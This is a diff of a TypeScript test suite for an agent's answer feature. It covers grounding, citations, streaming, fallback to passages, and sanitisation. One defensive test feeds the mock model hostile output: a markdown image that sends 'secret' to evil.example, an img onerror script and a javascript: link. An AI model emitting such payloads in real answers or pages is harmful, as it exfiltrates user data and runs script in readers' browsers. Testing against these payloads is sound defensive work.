@@ -13,8 +13,8 @@ import {
   startModelServer,
 } from '../support/model-server.ts'
 import { goodWriter } from '../support/scripted-models.ts'
-import { type Seed, seedWorld } from '../support/seed.ts'
-import { startTestCanopy, type TestCanopy } from '../support/start-test-canopy.ts'
+import { createAgent, type Seed, seedWorld } from '../support/seed.ts'
+import { setUpTestCanopy } from '../support/start-test-canopy.ts'
 
 const Ask = graphql(`
   query AskForAnswer($input: AgentQueryInput!) {
@@ -39,11 +39,6 @@ const Resume = graphql(`
     queryEvents(queryId: $queryId) { ... on QueryCompleted { answer { text } } }
   }
 `)
-const SetAnswers = graphql(`
-  mutation AnsweringAgent($input: CreateAgentInput!) {
-    createAgent(input: $input) { __typename ... on CreateAgentPayload { agent { id } } }
-  }
-`)
 
 const LEAVE = 'How many days of annual leave?'
 const KEY = 'sk-model-secret'
@@ -52,22 +47,20 @@ const NO_PAUSE = { 'retry-after': '0' }
 /** Longer than any test. No other timer has this duration. */
 const MODEL_TIMEOUT_MS = 300_001
 
-let canopy: TestCanopy
-let seed: Seed
 let model: ModelServer
 beforeAll(async () => {
   model = await startModelServer()
-  canopy = await startTestCanopy({
-    MODEL_BASE_URL: model.url,
-    MODEL_NAME: 'scribe-1',
-    MODEL_API_KEY: KEY,
-    MODEL_TIMEOUT_MS: String(MODEL_TIMEOUT_MS),
-  })
-  seed = await seedWorld(canopy.client)
 })
-afterAll(async () => {
-  await canopy.stop()
-  await model.close()
+afterAll(() => model.close())
+const canopy = setUpTestCanopy(() => ({
+  MODEL_BASE_URL: model.url,
+  MODEL_NAME: 'scribe-1',
+  MODEL_API_KEY: KEY,
+  MODEL_TIMEOUT_MS: String(MODEL_TIMEOUT_MS),
+}))
+let seed: Seed
+beforeAll(async () => {
+  seed = await seedWorld(canopy.client)
 })
 beforeEach(() => {
   model.requests.length = 0
@@ -77,9 +70,9 @@ afterEach(() => {
   vi.restoreAllMocks()
 })
 
-async function ask(query: string, answer = true) {
-  const { agentQuery } = await canopy.client.run(Ask, { input: { agentId: seed.agentId, query, answer } })
-  return agentQuery
+async function ask(query: string, options: { answer?: boolean; agentId?: string } = { answer: true }) {
+  const input = { agentId: seed.agentId, query, ...options }
+  return (await canopy.client.run(Ask, { input })).agentQuery
 }
 
 async function listen(query: string, { answer = true, onPiece = () => {} } = {}) {
@@ -91,14 +84,21 @@ async function listen(query: string, { answer = true, onPiece = () => {} } = {})
       onPiece()
     }
     if (item.__typename !== 'QueryCompleted') continue
-    const begun = pieces.findLastIndex(piece => piece.restart)
-    const text = pieces
-      .slice(Math.max(0, begun))
-      .map(piece => piece.text)
-      .join('')
-    return { pieces, text, answer: item.answer }
+    const start = pieces.findLastIndex(piece => piece.restart)
+    const final = pieces.slice(Math.max(0, start))
+    return { pieces, text: final.map(piece => piece.text).join(''), answer: item.answer }
   }
   throw new Error('The query did not complete.')
+}
+
+/** Lets the model write the start of an answer. @returns a function that lets it write the rest. */
+function pauseModel(): () => void {
+  let finish = () => {}
+  model.behave = response => {
+    sendPiece(response, 'Annual leave is')
+    finish = () => say([' 25 days [1].'])(response)
+  }
+  return () => finish()
 }
 
 describe('an extractive answer', () => {
@@ -118,7 +118,7 @@ describe('an extractive answer', () => {
       'Flights over four hours may be booked in premium economy.',
       'Business trips',
     ],
-  ])('to %s', async (query, sentence, title) => {
+  ])('cites the sentence that answers %s', async (query, sentence, title) => {
     const { answer } = await ask(query)
     expect(answer).toMatchObject({ grounded: true, model: null })
     expect(answer?.text).toContain(sentence)
@@ -133,16 +133,10 @@ describe('an extractive answer', () => {
   })
 
   it('is created only if the query or the agent requests it', async () => {
-    expect((await ask(LEAVE, false)).answer).toBeNull()
+    expect((await ask(LEAVE, { answer: false })).answer).toBeNull()
     expect(await listen(LEAVE, { answer: false })).toEqual({ pieces: [], text: '', answer: null })
-    const { createAgent } = await canopy.client.run(SetAnswers, {
-      input: { name: 'Answering', nodeKeys: ['policies'], features: { answers: true } },
-    })
-    if (createAgent.__typename !== 'CreateAgentPayload') throw new Error('no agent')
-    const { agentQuery } = await canopy.client.run(Ask, {
-      input: { agentId: createAgent.agent.id, query: LEAVE },
-    })
-    expect(agentQuery.answer?.text).toContain('25 days')
+    const { agentId } = await createAgent(canopy.client, { features: { answers: true } })
+    expect((await ask(LEAVE, { agentId })).answer?.text).toContain('25 days')
   })
 
   it('is absent if nothing supports it', async () => {
@@ -152,16 +146,9 @@ describe('an extractive answer', () => {
 })
 
 describe('an answer from a model', () => {
-  it('streams without citation markers, cited and checked', async () => {
-    model.behave = say([
-      'Annual leave',
-      ' is 25 da',
-      'ys [',
-      '1',
-      '].',
-      ' Ask your lead',
-      ' two weeks before [1].',
-    ])
+  it('streams without citation markers, and cites its passages', async () => {
+    const parts = ['Annual leave', ' is 25 da', 'ys [', '1', '].', ' Ask your lead', ' two weeks before [1].']
+    model.behave = say(parts)
     const { pieces, text, answer } = await listen(LEAVE)
     expect(pieces.length).toBeGreaterThan(2)
     expect(text).toBe('Annual leave is 25 days. Ask your lead two weeks before.')
@@ -186,11 +173,7 @@ describe('an answer from a model', () => {
   })
 
   it('streams while the model is still writing', async () => {
-    let finish = () => {}
-    model.behave = response => {
-      sendPiece(response, 'Annual leave is')
-      finish = () => say([' 25 days [1].'])(response)
-    }
+    const finish = pauseModel()
     const seen: string[] = []
     const input = { agentId: seed.agentId, query: LEAVE, answer: true }
     for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
@@ -201,7 +184,7 @@ describe('an answer from a model', () => {
     expect(seen).toEqual(['Annual leave', ' is 25', ' days.'])
   })
 
-  it('is plain text whatever the model writes, and citation offsets match that text', async () => {
+  it('is plain text even if the model writes markup, and citation offsets match that text', async () => {
     model.behave = say([
       '![x](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))\n\n',
       'Annual **leave** is <b>25 days</b> \u202Eand\u0000 fun \ud83d',
@@ -216,14 +199,14 @@ describe('an answer from a model', () => {
     )
   })
 
-  it('is dropped over 8,000 characters, white space included', async () => {
-    // The response never ends by itself. Only the length limit can end it.
+  it('is dropped if it exceeds 8,000 characters, including white space', async () => {
+    // Only the length limit can end this response.
     model.behave = response => sendPiece(response, `A${' '.repeat(8_000)}`)
     expect((await ask(LEAVE)).answer).toMatchObject({ grounded: true, model: null })
     await expect.poll(() => model.left).toBe(1)
   })
 
-  it('is grounded if the model follows the passages, in Korean too', async () => {
+  it('is grounded if the model follows the passages, in English and Korean', async () => {
     model.behave = reply(goodWriter)
     for (const query of [LEAVE, '연차휴가는 며칠인가요?']) {
       const { answer } = await ask(query)
@@ -233,7 +216,7 @@ describe('an answer from a model', () => {
     }
   })
 
-  it('is not grounded if the model makes things up', async () => {
+  it('is not grounded if the model invents facts', async () => {
     model.behave = say(['Annual leave is 40 days [1]. It is paid twice [9].'])
     const { answer } = await ask(LEAVE)
     expect(answer).toMatchObject({ grounded: false, citations: [{ start: 0, end: 23 }] })
@@ -242,28 +225,28 @@ describe('an answer from a model', () => {
   it.each<[string, Behaviour, number]>([
     ['refuses', refuse(401, `{"error":"key ${KEY} is wrong"}`), 0],
     ['fails', refuse(500, 'no', NO_PAUSE), 0],
-    ['says nothing', say(['', ' ']), 0],
+    ['writes nothing', say(['', ' ']), 0],
     ['sends something other than events', refuse(200, '{"choices":[]}'), 0],
     ['breaks off', breakOff(['Annual leave', ' is forty']), 1],
-    ['writes on and on', say(['Annual leave ', 'is long. '.repeat(1_000)]), 1],
+    ['writes more than the limit', say(['Annual leave ', 'is long. '.repeat(1_000)]), 1],
   ])('falls back to passages if the model %s', async (_, behave, restarts) => {
     model.behave = behave
-    const drawn = await listen(LEAVE)
-    expectDrawn(drawn, restarts)
-    expect((await ask(LEAVE)).answer?.text).toBe(drawn.text)
+    const fallback = await listen(LEAVE)
+    expectExtractive(fallback, restarts)
+    expect((await ask(LEAVE)).answer?.text).toBe(fallback.text)
   })
 
   it('falls back to passages if the model is too slow', async () => {
     const timers = holdTimers(MODEL_TIMEOUT_MS)
     model.behave = response => sendPiece(response, 'Annual leave')
-    const drawn = await listen(LEAVE, { onPiece: timers.expire })
-    expectDrawn(drawn, 1)
+    const fallback = await listen(LEAVE, { onPiece: timers.expire })
+    expectExtractive(fallback, 1)
     model.behave = timers.expire
-    expect((await ask(LEAVE)).answer?.text).toBe(drawn.text)
+    expect((await ask(LEAVE)).answer?.text).toBe(fallback.text)
     await expect.poll(() => model.open).toBe(0)
   })
 
-  function expectDrawn({ pieces, text, answer }: Awaited<ReturnType<typeof listen>>, restarts: number) {
+  function expectExtractive({ pieces, text, answer }: Awaited<ReturnType<typeof listen>>, restarts: number) {
     expect(answer).toMatchObject({ grounded: true, model: null })
     expect(text).toBe(answer?.text)
     expect(text).toContain('Everybody has 25 days of annual leave.')
@@ -271,11 +254,7 @@ describe('an answer from a model', () => {
   }
 
   it('is completed without subscribers and can be read later', async () => {
-    let finish = () => {}
-    model.behave = response => {
-      sendPiece(response, 'Annual leave is')
-      finish = () => say([' 25 days [1].'])(response)
-    }
+    const finish = pauseModel()
     const input = { agentId: seed.agentId, query: LEAVE, answer: true }
     let queryId = ''
     for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
